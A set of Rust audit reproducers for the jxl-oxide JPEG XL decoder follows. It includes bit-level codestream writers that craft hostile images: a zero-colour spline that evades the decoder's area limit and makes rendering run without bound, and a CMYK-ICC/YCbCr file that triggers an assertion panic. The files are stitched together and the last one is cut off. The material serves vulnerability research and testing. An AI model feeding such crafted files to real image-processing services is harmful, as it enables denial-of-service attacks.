    let color = get("color", 0) as i32;
    let qa = get("qa", 0) as i32;
    let tracker = get("tracker", 0) as usize;
    let size = get("size", 64) as u32;
    let norender = get("norender", 0) != 0;
    let up = get("up", 1) as u32;
    let write: Option<String> = args.iter().find_map(|a| a.strip_prefix("write=").map(|s| s.to_string()));

    let img = ImageSpec::rgb(size, size);
    let mut f = FrameSpec::new(&img);
    f.upsampling = up;
    f.fill(&img, |_, _, _| 0);
    f.flags |= 0x10;
    let sp = far_spec(len, seg, nsplines, sigma, color, qa);
    let npts: usize = sp.splines.iter().map(|s| s.points.len()).sum();
    let image_size = (size as u64) * (size as u64);
    let limit = (1u64 << 42).min(1024 * image_size + (1u64 << 32));
    let est = estimate_area(&sp, false);
    let est_fixed = estimate_area(&sp, true);
    println!(
        "image {size}x{size}, {nsplines} spline(s), {npts} control points in total, total length {len}, segment {seg}, sigma_q {sigma} (sigma {:.1}), colour_q {color}, quant_adjust {qa}",
        sigma as f32 * 0.3333
    );
    println!("estimated area as computed by the decoder = {est}; with max(1, log_color) = {est_fixed}; limit = {limit}");
    f.splines = Some(sp);
    let bytes = encode_image(&img, &[f]);
    println!("file size {} bytes", bytes.len());
    if let Some(p) = write {
        std::fs::write(&p, &bytes).unwrap();
    }
    let t0 = Instant::now();
    let mut b = JxlImage::builder().pool(jxl_threadpool::JxlThreadPool::none());
    if tracker > 0 {
        b = b.alloc_tracker(jxl_oxide::AllocTracker::with_limit(tracker << 20));
    }
    let image = match b.read(&bytes[..]) {
        Ok(i) => i,
        Err(e) => {
            println!("read: ERROR after {:?}: {e}", t0.elapsed());
            return 0;
        }
    };
    println!("read: ok after {:?}, {} keyframe(s) loaded", t0.elapsed(), image.num_loaded_keyframes());
    if image.num_loaded_keyframes() == 0 {
        println!("(frame rejected while loading: see the tracing output / no keyframe)");
        return 0;
    }
    if norender {
        return 0;
    }
    let t1 = Instant::now();
    match image.render_frame(0) {
        Ok(r) => {
            let planes = r.image_planar();
            let nz = planes[0].buf().iter().filter(|v| **v != 0.0).count();
            println!("render_frame(0): ok after {:?} ({nz} non-zero samples in channel 0)", t1.elapsed());
        }
        Err(e) => println!("render_frame(0): ERROR after {:?}: {e}", t1.elapsed()),
    }
    0
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let code = match args.first().map(|s| s.as_str()) {
        Some("valid") => valid(),
        Some("far") => far(&args[1..]),
        _ => {
            eprintln!("usage: h_spline valid | far key=value ...");
            2
        }
    };
    std::process::exit(code);
}

//! Audit H reproducer: a spline whose 3 x 32 colour coefficients are all zero contributes 0 to
//! `Splines::estimate_area` (log_color = ceil(log2(1 + 0)) = 0), so the Level-10 area limit in
//! LfGlobal::parse never fires, whatever the spline's length and sigma.
//!
//! File Z: 64x64 RGB Modular image, ONE spline, start (0,0), `1 + turns` control points zig-zagging
//!         between x = 0 and x = 2^20 (y + 1 per turn), colour DCT all zero, sigma DCT[0] = 2^20
//!         (sigma = 349525, window +-1.3e6 px: every unit-step sample visits all 64x64x3 samples).
//! File C: the same, except X DCT[0] = 1.
//!
//! Expected from a decoder that bounds spline work: both rejected in well under a second.
//! Exit code 1 if Z is still rendering after DEADLINE seconds (default 10) or took > 20 x the time
//! the longest accepted C-variant would take (none is accepted: C is rejected for every length >= 1
//! with this sigma); exit code 0 if Z is rejected (or finishes) quickly.
//!
//!   cargo run --offline --release --bin h_repro [turns=1] [deadline=10] [tracker=128]
use audit_e::*;
use std::sync::mpsc;
use std::time::{Duration, Instant};

const SEG: i64 = 1 << 20;
const SIGMA_Q: i32 = 1 << 20;

fn build(len: i64, color: i32) -> (Vec<u8>, usize) {
    let img = ImageSpec::rgb(64, 64);
    let mut f = FrameSpec::new(&img);
    f.fill(&img, |_, _, _| 0);
    f.flags |= 0x10;
    let mut pts = vec![(0i64, 0i64)];
    let (mut x, mut y, mut dir, mut left) = (0i64, 0i64, 1i64, len);
    while left > 0 {
        let step = left.min(SEG);
        x += dir * step;
        if pts.len() > 1 {
            y += 1;
        }
        pts.push((x, y));
        left -= step;
        dir = -dir;
    }
    let n = pts.len();
    let mut s = SplineSpec::new(pts);
    s.xyb_dct[0][0] = color;
    s.sigma_dct[0] = SIGMA_Q;
    f.splines = Some(SplinesSpec { quant_adjust: 0, splines: vec![s] });
    (encode_image(&img, &[f]), n)
}

#[derive(Debug)]
enum Outcome {
    ReadErr(String, Duration),
    RenderErr(String, Duration),
    Rendered(Duration),
    Panicked(String, Duration),
    StillRunning(Duration),
}

fn decode(bytes: Vec<u8>, tracker_mib: usize, deadline: Duration) -> Outcome {
    let (tx, rx) = mpsc::channel();
    let t0 = Instant::now();
    std::thread::spawn(move || {
        let r = std::panic::catch_unwind(move || {
            let mut b = JxlImage::builder().pool(jxl_threadpool::JxlThreadPool::none());
            if tracker_mib > 0 {
                b = b.alloc_tracker(jxl_oxide::AllocTracker::with_limit(tracker_mib << 20));
            }
            let image = match b.read(&bytes[..]) {
                Ok(i) => i,
                Err(e) => return Outcome::ReadErr(e.to_string(), t0.elapsed()),
            };
            match image.render_frame(0) {
                Ok(_) => Outcome::Rendered(t0.elapsed()),
                Err(e) => Outcome::RenderErr(e.to_string(), t0.elapsed()),
            }
        });
        let _ = tx.send(r.unwrap_or_else(|p| Outcome::Panicked(panic_msg(p), t0.elapsed())));
    });
    match rx.recv_timeout(deadline) {
        Ok(o) => o,
        Err(_) => Outcome::StillRunning(t0.elapsed()),
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let get = |k: &str, d: i64| -> i64 {
        args.iter().find_map(|a| a.strip_prefix(&format!("{k}=")).map(|v| v.parse().expect("integer"))).unwrap_or(d)
    };
    let turns = get("turns", 1);
    let deadline = Duration::from_secs(get("deadline", 10) as u64);
    let tracker = get("tracker", 128) as usize;
    let limit = (1u64 << 42).min(1024 * 64 * 64 + (1u64 << 32));
    println!("Level-10 limit for 64x64: {limit}; alloc tracker {tracker} MiB; deadline {deadline:?}");

    // scaling of the zero-colour render with the arc length (short ones, for extrapolation)
    let mut per_unit = 0f64;
    for len in [2_000i64, 20_000] {
        let (bytes, n) = build(len, 0);
        let o = decode(bytes.clone(), tracker, Duration::from_secs(120));
        println!("Z len {len:>9} ({n} points, {} bytes): {o:?}", bytes.len());
        if let Outcome::Rendered(d) = o {
            per_unit = d.as_secs_f64() / len as f64;
        }
    }

    let len = SEG * turns;
    // colour twin
    let (c_bytes, n) = build(len, 1);
    let t_c = decode(c_bytes.clone(), tracker, deadline);
    println!("C len {len:>9} ({n} points, {} bytes, X DCT[0] = 1): {t_c:?}", c_bytes.len());
    // shortest possible colour twin (length 1): still over the limit with this sigma
    let (c1, _) = build(1, 1);
    println!("C len         1: {:?}", decode(c1, tracker, deadline));

    let (z_bytes, n) = build(len, 0);
    std::fs::write("/tmp/audit_scratch_H/repro_zero_colour.jxl", &z_bytes).ok();
    std::fs::write("/tmp/audit_scratch_H/repro_colour_1.jxl", &c_bytes).ok();
    if per_unit > 0.0 {
        println!(
            "Z len {len:>9}: extrapolated render time {:.0} s, sample vector {:.0} MB (12 bytes per unit of arc length, not seen by the tracker)",
            per_unit * len as f64,
            12.0 * len as f64 / 1e6
        );
    }
    let t_z = decode(z_bytes.clone(), tracker, deadline);
    println!("Z len {len:>9} ({n} points, {} bytes, colour all zero): {t_z:?}", z_bytes.len());
    match t_z {
        Outcome::StillRunning(_) => {
            println!("FAIL: the zero-colour file passed the area limit (estimate 0) and is still rendering after {deadline:?}; its twin with X DCT[0] = 1 was rejected");
            std::process::exit(1);
        }
        Outcome::Rendered(d) if d > Duration::from_secs(10) => {
            println!("FAIL: the zero-colour file rendered for {d:?}");
            std::process::exit(1);
        }
        Outcome::Panicked(m, _) => {
            println!("FAIL: panic: {m}");
            std::process::exit(1);
        }
        o => println!("PASS: {o:?}"),
    }
}

//! Audit H aside: one visible spline on a frame with upsampling 8 vs 1 (where is it drawn?).
use audit_e::*;
fn main() {
    for up in [1u32, 8] {
        let img = ImageSpec::rgb(64, 64);
        let mut f = FrameSpec::new(&img);
        f.upsampling = up;
        f.fill(&img, |_, _, _| 0);
        f.flags |= 0x10;
        let mut s = SplineSpec::new(vec![(10, 10), (50, 40)]);
        s.xyb_dct[0][0] = 200;
        s.sigma_dct[0] = 6;
        f.splines = Some(SplinesSpec { quant_adjust: 0, splines: vec![s] });
        let bytes = encode_image(&img, &[f]);
        let p = render_planar(&open(&bytes), 0);
        let (w, h, b) = &p[0];
        println!("upsampling {up}: channel 0 {w}x{h}");
        for y in (0..*h).step_by(2) {
            let row: String = (0..*w).map(|x| { let d = b[y * w + x]; if d > 0.2 { '#' } else if d > 0.02 { '+' } else if d > 1e-4 { '.' } else if d != 0.0 { ',' } else { ' ' } }).collect();
            println!("|{row}|");
        }
    }
}

//! F4-b (1): `ImageWithRegion::remove_color_channels` (crates/jxl-render/src/image.rs)
//! `assert!(self.color_channels >= count)` with `count == 4`.
//!
//! Image: not XYB encoded, `want_icc = 1`, embedded ICC profile whose colour space is `CMYK`
//! (jxl-oxide keeps such a profile as-is, and the colour transform "frame encoding -> requested
//! encoding" is then a no-op transform with 4 input channels); single Modular frame with
//! `do_ycbcr = 1`. `postprocess_keyframe` converts YCbCr to RGB and then calls
//! `remove_color_channels(transform.output_channels())` = `remove_color_channels(4)` on a grid
//! that has three colour channels.
//!
//! Hand-written 300x8 8-bit Modular codestreams that differ in the colour space field of the
//! 128-byte embedded ICC profile, in `do_ycbcr` and in the presence of a Black extra channel.

use std::sync::Mutex;

// ---------------------------------------------------------------------------------------------
// Bit writer (LSB first, as in JPEG XL)
// ---------------------------------------------------------------------------------------------

struct BitWriter {
    bytes: Vec<u8>,
    nbits: usize,
}

impl BitWriter {
    fn new() -> Self {
        Self {
            bytes: Vec::new(),
            nbits: 0,
        }
    }

    fn write(&mut self, n: usize, value: u64) {
        for i in 0..n {
            let bit = ((value >> i) & 1) as u8;
            if self.nbits % 8 == 0 {
                self.bytes.push(0);
            }
            let last = self.bytes.last_mut().unwrap();
            *last |= bit << (self.nbits % 8);
            self.nbits += 1;
        }
    }

    fn bool(&mut self, b: bool) {
        self.write(1, b as u64);
    }

    fn pad_to_byte(&mut self) {
        self.nbits = self.bytes.len() * 8;
    }

    fn append_bytes(&mut self, data: &[u8]) {
        assert_eq!(self.nbits % 8, 0);
        self.bytes.extend_from_slice(data);
        self.nbits = self.bytes.len() * 8;
    }

    fn into_bytes(self) -> Vec<u8> {
        self.bytes
    }
}

// ---------------------------------------------------------------------------------------------
// MA tree: the whole image content comes from the tree (all residuals are zero and cost 0 bits)
// ---------------------------------------------------------------------------------------------

enum Node {
    /// `property > value` goes to `left`, otherwise `right`.
    Split {
        prop: u32,
        value: i32,
        left: Box<Node>,
        right: Box<Node>,
    },
    Leaf {
        predictor: u32,
        offset: i32,
    },
}

fn split(prop: u32, value: i32, left: Node, right: Node) -> Node {
    Node::Split {
        prop,
        value,
        left: Box::new(left),
        right: Box::new(right),
    }
}

fn leaf(predictor: u32, offset: i32) -> Node {
    Node::Leaf { predictor, offset }
}

fn pack_signed(v: i32) -> u32 {
    if v >= 0 {
        (v as u32) * 2
    } else {
        ((-v) as u32) * 2 - 1
    }
}

/// Hybrid uint config (split_exponent = 3, msb = lsb = 0) + flat 4-bit prefix code over 16 tokens.
fn write_tree_value(w: &mut BitWriter, v: u32) {
    let (token, nbits, rest) = if v < 8 {
        (v, 0, 0)
    } else {
        let n = 31 - v.leading_zeros();
        (8 + n - 3, n, v - (1 << n))
    };
    assert!(token < 16);
    for i in (0..4).rev() {
        w.write(1, ((token >> i) & 1) as u64);
    }
    w.write(nbits as usize, rest as u64);
}

fn write_tree(w: &mut BitWriter, root: &Node) {
    // Entropy coder for the tree: 6 contexts, one cluster, flat prefix code.
    w.bool(false); // lz77
    w.bool(true); // simple clustering
    w.write(2, 0); // nbits = 0
    w.bool(true); // use_prefix_code
    w.write(4, 3); // split_exponent
    w.write(2, 0); // msb_in_token
    w.write(2, 0); // lsb_in_token
    w.bool(true); // count > 1
    w.write(4, 3);
    w.write(3, 7); // count = 1 + 8 + 7 = 16
    w.write(2, 0); // hskip = 0
    for idx in 0..18 {
        // code length code lengths, order [1,2,3,4,0,5,17,6,16,7,8,...]
        if idx == 3 {
            w.write(2, 1); // symbol "4" has length 4
        } else {
            w.write(2, 0);
        }
    }

    let mut num_leaves = 0u32;
    let mut queue = std::collections::VecDeque::new();
    queue.push_back(root);
    while let Some(node) = queue.pop_front() {
        match node {
            Node::Split {
                prop,
                value,
                left,
                right,
            } => {
                write_tree_value(w, prop + 1);
                write_tree_value(w, pack_signed(*value));
                queue.push_back(left);
                queue.push_back(right);
            }
            Node::Leaf { predictor, offset } => {
                write_tree_value(w, 0);
                write_tree_value(w, *predictor);
                write_tree_value(w, pack_signed(*offset));
                write_tree_value(w, 0); // mul_log
                write_tree_value(w, 0); // mul_bits
                num_leaves += 1;
            }
        }
    }

    // Entropy coder for residuals: single-symbol prefix code => every residual is 0, 0 bits each.
    w.bool(false); // lz77
    if num_leaves > 1 {
        w.bool(true); // simple clustering
        w.write(2, 0); // nbits = 0
    }
    w.bool(true); // use_prefix_code
    w.write(4, 0); // split_exponent = 0
    w.bool(false); // count = 1
}

const PROP_C: u32 = 0;
const PROP_X: u32 = 3;
const PRED_ZERO: u32 = 0;
const PRED_W: u32 = 1;

/// Per channel: first column = constant, every other pixel = W + k (horizontal ramps).
fn demo_tree() -> Node {
    let ramp = |base: i32, k: i32| split(PROP_X, 0, leaf(PRED_W, k), leaf(PRED_ZERO, base));
    split(
        PROP_C,
        0,
        split(PROP_C, 1, ramp(200, -1), ramp(50, 1)),
        ramp(10, 2),
    )
}

const WIDTH: u32 = 300;
const HEIGHT: u32 = 8;
const GROUP_DIM: u32 = 256;

fn write_enum(w: &mut BitWriter, v: u32) {
    // U32(0, 1, 2 + u(4), 18 + u(6))
    match v {
        0 => w.write(2, 0),
        1 => w.write(2, 1),
        2..=17 => {
            w.write(2, 2);
            w.write(4, (v - 2) as u64);
        }
        _ => {
            w.write(2, 3);
            w.write(6, (v - 18) as u64);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// ICC
// ---------------------------------------------------------------------------------------------

/// Minimal 128-byte ICC profile: header only.
fn icc_profile(colour_space: &[u8; 4]) -> Vec<u8> {
    let mut p = vec![0u8; 128];
    p[0..4].copy_from_slice(&128u32.to_be_bytes());
    p[8] = 4; // version 4
    p[12..16].copy_from_slice(if colour_space == b"CMYK" { b"prtr" } else { b"mntr" });
    p[16..20].copy_from_slice(colour_space);
    p[20..24].copy_from_slice(b"XYZ ");
    p[36..40].copy_from_slice(b"acsp");
    p[67] = 1; // rendering intent: relative
    p[68..72].copy_from_slice(&0x0000f6d6u32.to_be_bytes()); // D50
    p[72..76].copy_from_slice(&0x00010000u32.to_be_bytes());
    p[76..80].copy_from_slice(&0x0000d32du32.to_be_bytes());
    p
}

/// Same prediction as `predict_header` in crates/jxl-color/src/icc/decode.rs (`enc` holds the
/// already-encoded residuals).
fn predict_header(idx: usize, output_size: u32, enc: &[u8]) -> u8 {
    match idx {
        0..=3 => output_size.to_be_bytes()[idx],
        8 => 4,
        12..=23 => b"mntrRGB XYZ "[idx - 12],
        36..=39 => b"acsp"[idx - 36],
        41 | 42 if enc[40] == b'A' => b'P',
        43 if enc[40] == b'A' => b'L',
        41 if enc[40] == b'M' => b'S',
        42 if enc[40] == b'M' => b'F',
        43 if enc[40] == b'M' => b'T',
        42 if enc[40] == b'S' && enc[41] == b'G' => b'I',
        43 if enc[40] == b'S' && enc[41] == b'G' => b' ',
        42 if enc[40] == b'S' && enc[41] == b'U' => b'N',
        43 if enc[40] == b'S' && enc[41] == b'U' => b'W',
        70 => 246,
        71 => 214,
        73 => 1,
        78 => 211,
        79 => 45,
        80..=83 => enc[4 + idx - 80],
        _ => 0,
    }
}

/// Encoded ICC stream of a header-only profile: output_size, commands_size = 0, header residuals.
fn icc_stream(profile: &[u8]) -> Vec<u8> {
    assert_eq!(profile.len(), 128);
    let mut out = vec![0x80, 0x01]; // varint(128)
    out.push(0); // commands_size = 0
    let mut enc = vec![0u8; 128];
    for idx in 0..128 {
        let p = predict_header(idx, 128, &enc);
        enc[idx] = profile[idx].wrapping_sub(p);
    }
    out.extend_from_slice(&enc);
    out
}

fn write_icc(w: &mut BitWriter, profile: &[u8]) {
    let stream = icc_stream(profile);
    // enc_size: U64, selector 2 => 17 + u(8)
    assert!((17..17 + 256).contains(&stream.len()));
    w.write(2, 2);
    w.write(8, (stream.len() - 17) as u64);

    // Entropy coder with 41 contexts, one cluster, flat 4-bit prefix code over 16 tokens,
    // hybrid uint config (split_exponent = 3, msb = lsb = 0): same as the MA tree coder.
    w.bool(false); // lz77
    w.bool(true); // simple clustering
    w.write(2, 0); // nbits = 0
    w.bool(true); // use_prefix_code
    w.write(4, 3); // split_exponent
    w.write(2, 0); // msb_in_token
    w.write(2, 0); // lsb_in_token
    w.bool(true); // count > 1
    w.write(4, 3);
    w.write(3, 7); // count = 16
    w.write(2, 0); // hskip = 0
    for idx in 0..18 {
        if idx == 3 {
            w.write(2, 1); // symbol "4" has length 4
        } else {
            w.write(2, 0);
        }
    }
    for b in stream {
        write_tree_value(w, b as u32);
    }
}

// ---------------------------------------------------------------------------------------------
// Codestream
// ---------------------------------------------------------------------------------------------

#[derive(Clone, Copy)]
struct Config {
    icc_colour_space: &'static [u8; 4],
    black_channel: bool,
    do_ycbcr: bool,
}

fn encode(cfg: Config) -> Vec<u8> {
    let mut w = BitWriter::new();
    w.write(16, 0x0aff); // signature ff 0a

    // SizeHeader
    w.bool(false); // div8
    w.write(2, 0);
    w.write(9, (HEIGHT - 1) as u64);
    w.write(3, 0); // ratio = 0: explicit width
    w.write(2, 0);
    w.write(9, (WIDTH - 1) as u64);

    // ImageMetadata
    w.bool(false); // all_default
    w.bool(false); // extra_fields
    w.bool(false); // bit_depth: integer samples
    w.write(2, 0); // 8 bits
    w.bool(true); // modular_16bit_buffers
    if cfg.black_channel {
        w.write(2, 1); // num_extra = 1
        w.bool(false); // d_alpha
        write_enum(&mut w, 4); // type = Black
        w.bool(false); // bit_depth: integer samples
        w.write(2, 0); // 8 bits
        w.write(2, 0); // dim_shift = 0
        w.write(2, 0); // name length 0
    } else {
        w.write(2, 0); // num_extra = 0
    }
    w.bool(false); // xyb_encoded
    // ColourEncoding
    w.bool(false); // all_default
    w.bool(true); // want_icc
    write_enum(&mut w, 0); // colour_space = RGB (this is also what CMYK uses)
    w.write(2, 0); // extensions
    w.bool(true); // default_m
    write_icc(&mut w, &icc_profile(cfg.icc_colour_space));
    w.pad_to_byte();

    // FrameHeader
    w.bool(false); // all_default
    w.write(2, 0); // RegularFrame
    w.write(1, 1); // Modular
    w.write(2, 0); // flags = 0
    w.bool(cfg.do_ycbcr); // do_ycbcr
    if cfg.do_ycbcr {
        w.write(6, 0); // jpeg_upsampling: no subsampling
    }
    w.write(2, 0); // upsampling = 1
    if cfg.black_channel {
        w.write(2, 0); // ec_upsampling[0] = 1
    }
    w.write(2, 1); // group_size_shift = 1 => group_dim = 256
    w.write(2, 0); // num_passes = 1
    w.bool(false); // have_crop
    w.write(2, 0); // blend mode: replace
    if cfg.black_channel {
        w.write(2, 0); // ec_blending_info[0]: replace
    }
    w.bool(true); // is_last
    w.write(2, 0); // name length 0
    w.bool(false); // restoration_filter.all_default
    w.bool(false); // gab
    w.write(2, 0); // epf_iters = 0
    w.write(2, 0); // restoration filter extensions
    w.write(2, 0); // frame header extensions

    let num_groups = WIDTH.div_ceil(GROUP_DIM) * HEIGHT.div_ceil(GROUP_DIM);
    let lf_global = {
        let mut s = BitWriter::new();
        s.bool(true); // LfChannelDequantization.all_default
        s.bool(true); // global MA tree present
        write_tree(&mut s, &demo_tree());
        s.bool(true); // use_global_tree
        s.bool(true); // default_wp
        s.write(2, 0); // nb_transforms = 0
        s.pad_to_byte();
        s.into_bytes()
    };
    let pass_group = {
        let mut s = BitWriter::new();
        s.bool(true); // use_global_tree
        s.bool(true); // default_wp
        s.write(2, 0); // nb_transforms = 0
        s.pad_to_byte();
        s.into_bytes()
    };
    let mut sections: Vec<Vec<u8>> = Vec::new();
    sections.push(lf_global);
    sections.push(Vec::new());
    sections.push(Vec::new());
    for _ in 0..num_groups {
        sections.push(pass_group.clone());
    }
    w.bool(false); // not permuted
    w.pad_to_byte();
    for s in &sections {
        w.write(2, 0);
        w.write(10, s.len() as u64);
    }
    w.pad_to_byte();
    for s in &sections {
        w.append_bytes(s);
    }
    w.into_bytes()
}

// ---------------------------------------------------------------------------------------------
// A caller-supplied colour management system. It does what a real CMS does as far as jxl-oxide
// is concerned: the channel counts come from the colour space fields of the two profiles.
// ---------------------------------------------------------------------------------------------

struct DemoCms;

struct DemoTransform {
    from: usize,
    to: usize,
}

fn icc_channels(icc: &[u8]) -> usize {
    match icc.get(16..20) {
        Some(b"GRAY") => 1,
        Some(b"CMYK") => 4,
        _ => 3,
    }
}

impl jxl_oxide::ColorManagementSystem for DemoCms {
    fn prepare_transform(
        &self,
        from_icc: &[u8],
        to_icc: &[u8],
        _intent: jxl_oxide::RenderingIntent,
    ) -> Result<Box<dyn jxl_oxide::PreparedTransform>, Box<dyn std::error::Error + Send + Sync + 'static>>
    {
        Ok(Box::new(DemoTransform {
            from: icc_channels(from_icc),
            to: icc_channels(to_icc),
        }))
    }
}

impl jxl_oxide::PreparedTransform for DemoTransform {
    fn num_input_channels(&self) -> usize {
        self.from
    }

    fn num_output_channels(&self) -> usize {
        self.to
    }

    fn transform(
        &self,
        channels: &mut [&mut [f32]],
    ) -> Result<(), Box<dyn std::error::Error + Send + Sync + 'static>> {
        if channels.len() < self.from.max(self.to) {
            return Err("not enough channels".into());
        }
        if self.from == 4 && self.to == 3 {
            // naive CMYK (already inverted by jxl-oxide: 1 = no ink) to RGB
            let (cmy, k) = channels.split_at_mut(3);
            for c in cmy {
                for (c, k) in c.iter_mut().zip(k[0].iter()) {
                    *c *= *k;
                }
            }
        }
        Ok(())
    }
}

// ---------------------------------------------------------------------------------------------
// Driver
// ---------------------------------------------------------------------------------------------

static LAST_PANIC: Mutex<Option<String>> = Mutex::new(None);

enum Outcome {
    Ok(String),
    Err(String),
    Panicked(String),
}

fn decode(bytes: &[u8], request_srgb_with_cms: bool) -> Outcome {
    *LAST_PANIC.lock().unwrap() = None;
    let result = std::panic::catch_unwind(|| -> Result<String, String> {
        let mut image = jxl_oxide::JxlImage::builder()
            .read(bytes)
            .map_err(|e| format!("read: {e}"))?;
        if request_srgb_with_cms {
            image.set_cms(DemoCms);
            image.request_color_encoding(jxl_oxide::EnumColourEncoding::srgb(
                jxl_oxide::RenderingIntent::Relative,
            ));
        }
        let (w, h) = (image.width(), image.height());
        let pixel_format = image.pixel_format();
        let render = image
            .render_frame(0)
            .map_err(|e| format!("render_frame: {e}"))?;
        let stream_channels = render.stream().channels();
        let fb = render.image_all_channels();
        let buf = fb.buf();
        let ch = fb.channels();
        let px = |x: usize, y: usize| -> Vec<i32> {
            (0..ch)
                .map(|c| (buf[(y * fb.width() + x) * ch + c] * 255.0).round() as i32)
                .collect()
        };
        Ok(format!(
            "{w}x{h}, {pixel_format:?}, stream has {stream_channels} channel(s), {ch} channel(s) in total, px(0,0)={:?} px(100,3)={:?}",
            px(0, 0),
            px(100, 3),
        ))
    });
    match result {
        Ok(Ok(s)) => Outcome::Ok(s),
        Ok(Err(e)) => Outcome::Err(e),
        Err(_) => Outcome::Panicked(
            LAST_PANIC
                .lock()
                .unwrap()
                .take()
                .unwrap_or_else(|| "<unknown>".into()),
        ),
    }
}

struct Case {
    label: &'static str,
    cfg: Config,
    request_srgb_with_cms: bool,
    hostile: bool,
}

fn main() {
    std::panic::set_hook(Box::new(|info| {
        *LAST_PANIC.lock().unwrap() = Some(info.to_string());
    }));

    let cases = CASES;

    let mut failed = false;
    for Case { label, cfg, request_srgb_with_cms, hostile } in cases {
        let bytes = encode(cfg);
        match decode(&bytes, request_srgb_with_cms) {
            Outcome::Ok(s) => println!("{label}: decoded: {s}"),
            Outcome::Err(e) => {
                println!("{label}: rejected with an error: {e}");
                if !hostile {
                    println!("  (control input was expected to decode)");
                    failed = true;
                }
            }
            Outcome::Panicked(msg) => {
                println!("{label}: PANICKED: {}", msg.replace('\n', " "));
                failed = true;
            }
        }
    }
    std::process::exit(if failed { 1 } else { 0 });
}

const CASES: [Case; 5] = [
    Case {
        label: "control: RGB ICC, do_ycbcr = 1",
        cfg: Config { icc_colour_space: b"RGB ", black_channel: false, do_ycbcr: true },
        request_srgb_with_cms: false,
        hostile: false,
    },
    Case {
        label: "control: CMYK ICC + Black channel, do_ycbcr = 0",
        cfg: Config { icc_colour_space: b"CMYK", black_channel: true, do_ycbcr: false },
        request_srgb_with_cms: false,
        hostile: false,
    },
    Case {
        label: "control: CMYK ICC + Black channel, do_ycbcr = 0, sRGB requested",
        cfg: Config { icc_colour_space: b"CMYK", black_channel: true, do_ycbcr: false },
        request_srgb_with_cms: true,
        hostile: false,
    },
    Case {
        label: "HOSTILE: CMYK ICC + Black channel, do_ycbcr = 1",
        cfg: Config { icc_colour_space: b"CMYK", black_channel: true, do_ycbcr: true },
        request_srgb_with_cms: false,
        hostile: true,
    },
    Case {
        label: "HOSTILE: CMYK ICC, no Black channel, do_ycbcr = 1",
        cfg: Config { icc_colour_space: b"CMYK", black_channel: false, do_ycbcr: true },
        request_srgb_with_cms: false,
        hostile: true,
    },
];

use audit_e::*;

fn build() -> Vec<u8> {
    let mut img = ImageSpec::rgb(4, 1);
    img.xyb = true;
    img.modular_16bit = true;
    let mut f = FrameSpec::new(&img);
    // channel 0 = Y, 1 = X, 2 = B(-Y). every coded sample fits in i16.
    f.fill(&img, |c, x, _| match c { 0 => 5000 * (x as i32 + 1), 1 => 0, _ => 5000 * (x as i32 + 1) });
    encode_image(&img, &[f])
}

fn main() {
    let bytes = build();
    for wide in [false, true] {
        let image = jxl_oxide::JxlImage::builder()
            .pool(jxl_oxide::JxlThreadPool::none())
            .force_wide_buffers(wide)
            .read(&bytes[..]).unwrap();
        let p = render_planar(&image, 0);
        println!("force_wide_buffers={wide}:");
        for (c, (_, _, buf)) in p.iter().enumerate() {
            println!("  channel {c}: {:?}", buf);
        }
    }
}

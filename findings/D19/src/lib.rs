//! Demonstration package; see tests/.

//! Hand-built lossless Modular codestream whose MA tree looks at the previous channel.
//!
//! A 16x8 8-bit RGB image is written with a tiny bit writer. The samples are produced by an
//! independent, straightforward model of the Modular sample decoding process (MA tree walk,
//! predictor, offset), so the test knows every original integer sample. The codestream is then
//! decoded with `jxl_oxide::JxlImage` and every sample of every channel is compared.
//!
//! MA tree (breadth-first, `prop > value` takes the left branch):
//!
//! ```text
//! [0] channel > 0 ?
//!      yes -> [1] |previous channel sample| (property 16) > 100 ?
//!                  yes -> [3] leaf ctx1: Zero predictor, offset 100
//!                  no  -> [4] leaf ctx2: West predictor, offset 0
//!      no  -> [2] leaf ctx0: Zero predictor, offset 128
//! ```

use jxl_oxide::JxlImage;

const WIDTH: usize = 16;
const HEIGHT: usize = 8;
const CHANNELS: usize = 3;

// ---------------------------------------------------------------------------------------------
// Bit writer (JPEG XL packs bits LSB first).
// ---------------------------------------------------------------------------------------------

#[derive(Default)]
struct BitWriter {
    bytes: Vec<u8>,
    bitpos: usize,
}

impl BitWriter {
    fn bits(&mut self, value: u64, n: usize) {
        for i in 0..n {
            if self.bitpos % 8 == 0 {
                self.bytes.push(0);
            }
            let bit = ((value >> i) & 1) as u8;
            *self.bytes.last_mut().unwrap() |= bit << (self.bitpos % 8);
            self.bitpos += 1;
        }
    }

    fn flag(&mut self, b: bool) {
        self.bits(b as u64, 1);
    }

    fn pad_to_byte(&mut self) {
        self.bitpos = self.bytes.len() * 8;
    }
}

// ---------------------------------------------------------------------------------------------
// Entropy coded stream writer: prefix codes with at most four tokens per cluster ("simple" prefix
// code), hybrid integer config split_exponent = 0, msb_in_token = 0, lsb_in_token = 0.
// ---------------------------------------------------------------------------------------------

fn tokenize(value: u32) -> (u32, u32, usize) {
    if value == 0 {
        (0, 0, 0)
    } else {
        let n = value.ilog2() as usize;
        (n as u32 + 1, value - (1 << n), n)
    }
}

struct PrefixStream {
    ctx_map: Vec<u8>,
    tokens: Vec<Vec<u32>>,
}

impl PrefixStream {
    fn new(ctx_map: Vec<u8>, symbols: &[(usize, u32)]) -> Self {
        let num_clusters = *ctx_map.iter().max().unwrap() as usize + 1;
        let mut tokens = vec![Vec::new(); num_clusters];
        for &(ctx, value) in symbols {
            let cluster = ctx_map[ctx] as usize;
            let (token, _, _) = tokenize(value);
            if !tokens[cluster].contains(&token) {
                tokens[cluster].push(token);
            }
        }
        for t in &mut tokens {
            if t.is_empty() {
                t.push(0);
            }
            t.sort_unstable();
            assert!(t.len() <= 4, "simple prefix code holds at most four symbols");
        }
        Self { ctx_map, tokens }
    }

    fn write_header(&self, w: &mut BitWriter) {
        w.flag(false); // lz77.enabled
        if self.ctx_map.len() > 1 {
            w.flag(true); // simple clustering
            let max = *self.ctx_map.iter().max().unwrap() as u32;
            let nbits = (32 - max.leading_zeros()) as usize;
            w.bits(nbits as u64, 2);
            for &c in &self.ctx_map {
                w.bits(c as u64, nbits);
            }
        }
        w.flag(true); // use_prefix_code
        for _ in &self.tokens {
            w.bits(0, 4); // split_exponent = 0; msb_in_token and lsb_in_token take zero bits
        }
        for t in &self.tokens {
            let count = *t.last().unwrap() + 1;
            if count == 1 {
                w.flag(false);
            } else {
                w.flag(true);
                let n = (count - 1).ilog2() as usize;
                w.bits(n as u64, 4);
                w.bits((count - 1 - (1 << n)) as u64, n);
            }
        }
        for t in &self.tokens {
            let count = *t.last().unwrap() + 1;
